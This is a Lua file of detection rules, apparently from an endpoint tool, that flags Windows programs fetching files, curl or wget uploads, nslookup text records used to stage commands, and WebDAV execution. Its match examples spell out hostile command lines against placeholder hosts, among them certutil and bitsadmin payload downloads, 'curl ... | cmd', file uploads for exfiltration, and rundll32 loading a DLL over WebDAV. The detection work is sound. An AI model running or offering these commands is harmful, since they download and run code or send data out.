-- Programs that fetch files or send them, told to do so: of Windows, and curl, wget and their like. One row, one rule.

local asked = require "kaiseki.detect.asked"
local command = require "kaiseki.detect.command"
local places = require "kaiseki.detect.places"
local remote = require "kaiseki.detect.remote"
local tools = require "kaiseki.detect.tools"
local trusted = require "kaiseki.detect.trusted"
local lolbins = require "kaiseki.windows.lolbins"

local url, user_file = tools.url, tools.user_file
local fetches, names, folders = asked.new(), asked.new(), asked.new()

local function certutil_target(each)
    if each:has("-urlcache", "-verifyctl", "-url", "-ping", "-f", "-split") and url(each) then return url(each) end
    return nil
end

-- Options of curl (case matters) and wget that send what they name.
local SENDS = {
    ["-F"] = true, ["-T"] = true, ["-d"] = true, ["--form"] = true, ["--upload-file"] = true, ["--data"] = true,
    ["--data-binary"] = true, ["--post-file"] = true, ["--body-file"] = true, ["--data-raw"] = true,
    ["--data-urlencode"] = true, ["--json"] = true, ["--form-string"] = true,
}

local function sends(each)
    for at = 2, #each.words do
        if SENDS[each.words[at]:match "^[^=]+" or ""] then return true end
    end
    return false
end

-- How the argument behind an option names a file. An "@" anywhere else belongs to an address or a text.
local WHOLE, DATA, FORM = { "^(.+)$" }, { "^@(.+)$" }, { "=@([^;]+)", "=<([^;]+)" }
local NAMES_FILE = {
    curl = { ["-T"] = WHOLE, ["--upload-file"] = WHOLE, ["-F"] = FORM, ["--form"] = FORM, ["-d"] = DATA,
             ["--data"] = DATA, ["--data-ascii"] = DATA, ["--data-binary"] = DATA, ["--json"] = DATA,
             ["--data-urlencode"] = { "^[^=@]*@(.+)$" } },
    wget = { ["--post-file"] = WHOLE, ["--body-file"] = WHOLE },
}

local function named_file(patterns, argument)
    for _, pattern in ipairs(patterns or {}) do
        local file = argument:match(pattern)
        if file then return file end
    end
    return nil
end

-- The file that curl or wget is told to send: "-F file=@PATH", "-d @PATH", "-T PATH", "--post-file=PATH".
local function sent_file(each)
    local options = NAMES_FILE[each.program] or {}
    for at = 2, #each.words do
        local word = each.words[at]
        local option, argument = word:match "^(%-%-[%w-]+)=(.+)$"
        local file = named_file(options[each.words[at - 1]], word) or (option and named_file(options[option], argument))
        if file then return file end
    end
    return nil
end

-- An address as curl and wget also take it, without its scheme: "203.0.113.5/a", "x.example/a".
local function bare_address(each)
    for at = 2, #each.words do
        local word = each.words[at]
        local is_option = word:find "^%-" ~= nil or each.words[at - 1]:find "^%-[oHAbeuxX]$" ~= nil
        if not is_option and word:find "^[%w-]+%.[%w.-]+[:/]%S*$" then return word end
    end
    return nil
end

local function address(each) return url(each) or bare_address(each) end

-- Where a tool uploads a file to.
local function upload_target(each) return sent_file(each) and address(each) or nil end

local function uploaded(line)
    return command.first(line, function(each)
        local file = sent_file(each)
        return file and { name = each.program, file = file }
    end) or {}
end

local BY_KIND = { document = "T1567.002", drop = "T1567.002", code = "T1567.001", paste = "T1567.003",
                  bot = "T1567.004" }

-- Whether it goes to a service of the web that anybody may use.
local function upload_technique(target)
    local service = remote.web_service { host = target:match "^%a+://([^/:]+)" or target:match "^[^/:]+" }
    return service and BY_KIND[service.kind] or "T1048"
end

-- What a program sends to a server that is named like itself is its own business.
local function excuse_upload(finding, case)
    local name = finding.process and places.program(finding.process.name or "") or ""
    if #name >= 5 and finding.key:lower():find("^[%a:/]*[^/]*" .. name:gsub("%p", "%%%0")) then return "low" end
    if tools.in_tree(finding) then return nil end
    return trusted.is_bystander(case, finding.process) and "low" or nil
end

local KEEPS = { ["-O"] = true, ["-OJ"] = true, ["-LO"] = true, ["--remote-name"] = true, ["-JO"] = true }

local SHELLS = { cmd = true, powershell = true, pwsh = true, bash = true, python = true }

-- Whether what comes is kept as a file, of whatever name, or run at once.
local function is_kept(each)
    if SHELLS[each.pipes_to] then return true end
    if each:has("--output", "--output-document", "--dir") or each.text:find "%s>%s*%S" then return true end
    for at = 2, #each.words do
        local word = each.words[at]
        if KEEPS[word] or word:find "^%-%a*[oO]$" then return true end
    end
    return each.program == "wget" and not each.text:find "%s%-O%s*%-"
end

local function fetched(each, case)
    if sends(each) then return nil end
    local from = address(each)
    return from and (is_kept(each) or user_file(each, case)) and from or nil
end

-- Developers and setup programs fetch with the same tools; it says more where it lands among a user's files, and of the
-- sample's tree.
local function excuse(finding, case)
    if tools.in_tree(finding) then return nil end
    if trusted.is_bystander(case, finding.process) then return "low" end
    for _, event in ipairs(finding.events) do
        if places.in_user_place(event.child.command_line, case) then return nil end
    end
    return "medium"
end

-- "scp FILE user@host:PATH", and what WinSCP is told to put.
local function copied_away(each)
    if each.program == "winscp" then
        return each.folded:find "%f[%w]put%f[%W]" and each.text:match "[%w]+://[%w.-]*@?[%w.-]+" or nil
    end
    local last = each.words[#each.words]
    return #each.words > 2 and last:match "^[%w._-]+@[%w.-]+:" and last or nil
end

local ROWS = {
    { id = "exfiltration.secure-copy", programs = { "scp", "pscp", "winscp" }, attack = "T1048", target = copied_away,
      verb = "send-by-copy", name = "a tool for copies over SSH", role = "text", excuse = excuse,
      match = [[scp C:\Users\Public\a.zip a@203.0.113.5:/tmp]],
      no_match = [[scp a@203.0.113.5:/tmp/a.zip C:\Users\x]] },
    { id = "exfiltration.upload-tool", programs = { "curl", "wget" }, attack = "T1048", target = upload_target,
      verb = "upload-with-tool", role = "url", more = uploaded, excuse = excuse_upload,
      attacks = { "T1048", "T1567", "T1567.001", "T1567.002", "T1567.003", "T1567.004" }, technique = upload_technique,
      match = [[curl -s -F file=@C:\Users\Public\a.zip https://upload.example]],
      other = [[curl -T C:\Users\x\a.zip ftp://203.0.113.5/]],
      no_match = [[curl -H "From: me@x.example" -d user=a@b.example https://shop.example]] },
    { id = "command-and-control.certutil", programs = { "certutil" }, attack = "T1105", target = certutil_target,
      verb = "download-with-tool", name = "certutil",
      match = [[certutil -urlcache -split -f http://203.0.113.5/a.exe C:\Users\x\a.exe]],
      no_match = "certutil -store my" },
    { id = "persistence.bitsadmin", programs = { "bitsadmin" }, attack = "T1197",
      target = function(each)
          local at = command.position(each, "/setnotifycmdline")
          return at and each.words[at + 2] or nil
      end,
      verb = "run-after-transfer", name = "bitsadmin", role = "command",
      match = [[bitsadmin /SetNotifyCmdLine job C:\Users\x\a.exe NULL]],
      no_match = "bitsadmin /setnotifyflags job 1" },
    { id = "command-and-control.bitsadmin", programs = { "bitsadmin" }, attack = "T1197",
      target = function(each)
          return each:has("/transfer", "/addfile") and (url(each) or "a-file") or nil
      end,
      verb = "transfer-with-tool", name = "bitsadmin",
      match = [[bitsadmin /transfer job http://203.0.113.5/a.exe C:\Users\x\a.exe]],
      no_match = "bitsadmin /list" },
    { id = "command-and-control.curl", programs = { "curl", "wget", "aria2c" }, attack = "T1105", target = fetched,
      verb = "download-with-tool", means = "tool", role = "url", excuse = excuse,
      match = [[curl -s http://203.0.113.5/a.exe -o C:\Users\x\AppData\Local\Temp\a.exe]],
      other = [[cmd /c curl -sSL 203.0.113.5/a.cmd | cmd]],
      no_match = "curl http://203.0.113.5/status" },
}

for _, row in ipairs(ROWS) do rule(tools.rule(row)) end

local FETCHES = tools.by_program(lolbins.FETCHES)

-- The program and what it is told to fetch from where.
local function told(line, case)
    return command.first(line, function(each)
        local target, row = tools.told(FETCHES, each, case)
        return target and { program = each.program, target = target, technique = row[2] }
    end)
end

rule {
    id = "command-and-control.fetching-program",
    title = "Program of Windows made to fetch a file",
    severity = "high",
    attack = tools.techniques(lolbins.FETCHES),
    description = "A program of Windows that has other work is told to fetch a file from the web or from another "
        .. "machine: a certificate tool, a printer's helper, an old protocol's client.",
    references = { "https://attack.mitre.org/techniques/T1105/", "https://lolbas-project.github.io/" },
    false_positives = { "Administrators who copy from a share with such a tool." },
    author = "kaiseki",
    match = operation:is "Process Create" & child.command_line:contains(tools.names(lolbins.FETCHES)),
    on_event = function(event, case)
        local what = told(event.child.command_line, case)
        if not what then return end
        local is_share = not places.has_url(what.target) and what.target:find("\\", 1, true)
        fetches:tell(case, event, { key = what.program .. " " .. what.target, technique = what.technique,
                                    severity = is_share and "medium" or nil })
    end,
    on_complete = fetches.complete,
    excuse = excuse,
    finding = function(finding)
        local program, target = finding.key:match "^(%S+) (.*)$"
        local facts = { "fetch-with-program", name = program, through = tools.through(finding) }
        facts[tools.role_of(target)] = target
        return facts
    end,
    examples = {
        match = {
            tools.example [[finger a@203.0.113.5]], tools.example [[ftp -s:C:\Users\Public\f.txt]],
            tools.example [[cmd /c finger vke@finger.example | cmd]],
            tools.example [[desktopimgdownldr /lockscreenurl:http://203.0.113.5/a /eventName:x]],
            tools.example [[MpCmdRun.exe -DownloadFile -url https://x.example/a -path C:\Users\x\a.exe]],
        },
        no_match = {
            tools.example [[expand -F:* C:\Windows\Temp\a.cab C:\Windows\Temp\b]], tools.example [[finger]],
            tools.example [[MpCmdRun.exe -SignatureUpdate]],
        },
    },
}

-- What nslookup asks for by another name than an address' own: texts, or of a server that the command names.
local function name_text(each)
    if each.program ~= "nslookup" then return nil end
    local kind = each.folded:match "[-/]q%a*=(%a+)"
    return (kind == "txt" or kind == "any" or kind == "null") and (each.words[#each.words]) or nil
end

local function piped_names(line)
    local piped = line:lower():find("nslookup.-[|)]") ~= nil
    return command.first(line, function(each)
        if each.program == "nslookup" and piped and #each.words > 2 then return each.words[#each.words] end
        return name_text(each)
    end)
end

rule {
    id = "command-and-control.names-carry-commands",
    title = "Text asked of a name server by command",
    severity = "high",
    attack = { "T1071.004", "T1105" },
    description = "nslookup asks for texts, or hands what a named server answers on to a shell: commands that come as "
        .. "names, past whoever watches the web.",
    references = { "https://attack.mitre.org/techniques/T1071/004/" },
    false_positives = { "Administrators who look at the records of a domain." },
    author = "kaiseki",
    match = operation:is "Process Create" & child.command_line:contains "nslookup",
    on_event = function(event, case)
        local what = piped_names(event.child.command_line)
        local asks_server = what and what:find "%d+%.%d+%.%d+%.%d+" ~= nil
        if what then names:tell(case, event, { key = what, severity = not asks_server and "medium" or nil }) end
    end,
    on_complete = names.complete,
    excuse = function(finding) return not tools.in_tree(finding) and "low" or nil end,
    finding = function(finding)
        return { "ask-names-by-command", command = finding.events[1].child.command_line }
    end,
    examples = {
        match = {
            tools.example [[nslookup -q=txt stage.x.example]],
            tools.example [[cmd /c for /f "skip=1 delims=" %a in ('nslookup x 84.21.1.9') do call %a]],
        },
        no_match = { tools.example "nslookup www.example.com", tools.example "nslookup -q=mx example.com" },
    },
}

-- "\\host@SSL@443\DavWWWRoot\...", and the address in the command that Windows' own client starts for it.
local function web_folder(each)
    local host, rest = each.text:match [[\\([%w.-]+)(@[^\%s"]*)\]]
    if not host then
        host, rest = each.text:match [[\\([%w.-]+)\([dD][aA][vV][wW][wW][wW][rR][oO][oO][tT])]]
    end
    if host then return rest:find "^@" and host .. rest:lower():gsub("@ssl", ""):gsub("@", ":") or host end
    if each.program == "rundll32" and each.folded:find("davsetcookie", 1, true) then
        return each.text:match "[hH][tT][tT][pP][sS]?://([^%s/\"]+)"
    end
    return nil
end

rule {
    id = "command-and-control.web-folder",
    title = "Folder of a web server opened as a share",
    severity = "high",
    attack = { "T1105", "T1071.001" },
    description = "A command names a file or folder of a web server as if it lay on a share (WebDAV), so that it runs "
        .. "from there and no browser marks it.",
    references = { "https://attack.mitre.org/techniques/T1105/" },
    false_positives = { "Libraries of documents on a company's server, connected as drives." },
    author = "kaiseki",
    match = operation:is "Process Create" & child.command_line:contains { "@", "davwwwroot", "DavSetCookie" }
        & (child.command_line:contains { "davwwwroot", "DavSetCookie" } | child.command_line:regex [[\\\\[\w.-]+@]]),
    on_event = function(event, case)
        local host = command.first(event.child.command_line, web_folder)
        if not host then return end
        folders:tell(case, event, { key = host:lower(),
                                    severity = host:lower():find "sharepoint%.com" and "low" or nil })
    end,
    on_complete = folders.complete,
    finding = function(finding)
        return { "open-web-folder", host = finding.key, command = finding.events[1].child.command_line }
    end,
    examples = {
        match = {
            tools.example [[rundll32 \\203.0.113.5@80\dav\a.dll,Run]],
            tools.example [[net use * \\x.example@SSL\DavWWWRoot\a]],
            tools.example [[rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie x.example https://x.example/a]],
        },
        no_match = { tools.example [[net use H: \\fs01\home]], tools.example "git clone git@x.example:a.git" },
    },
}
